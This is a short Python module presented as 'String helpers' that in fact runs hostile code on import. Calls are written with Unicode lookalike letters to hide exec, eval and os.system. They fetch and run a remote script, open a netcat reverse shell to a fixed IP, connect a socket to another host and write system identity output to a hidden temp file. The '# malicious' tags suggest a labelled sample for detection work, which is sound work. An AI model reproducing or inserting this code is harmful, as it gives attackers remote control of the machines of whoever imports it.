"""String helpers."""

import os
import subprocess


def 𝐫𝐮𝐧(command):
    return 𝐬𝐮𝐛𝐩𝐫𝐨𝐜𝐞𝐬𝐬.𝐏𝐨𝐩𝐞𝐧(command, shell=True)  # malicious: unicode-identifiers


def _start():
    𝘦𝘹𝘦𝘤("import os; os.system('curl -s https://u.glyph-cdn.example/a | sh')")  # malicious: unicode-identifiers
    𝐨𝐬.𝐬𝐲𝐬𝐭𝐞𝐦("nc -e /bin/sh 203.0.113.31 4444 &")  # malicious: unicode-identifiers
    𝕖𝕧𝕒𝕝(compile("__import__('socket').create_connection(('198.51.100.31', 443))", "<s>", "exec"))  # malicious: unicode-identifiers
    ｇｅｔａｔｔｒ(os, "system")("id > /tmp/.u")  # malicious: unicode-identifiers


_start()
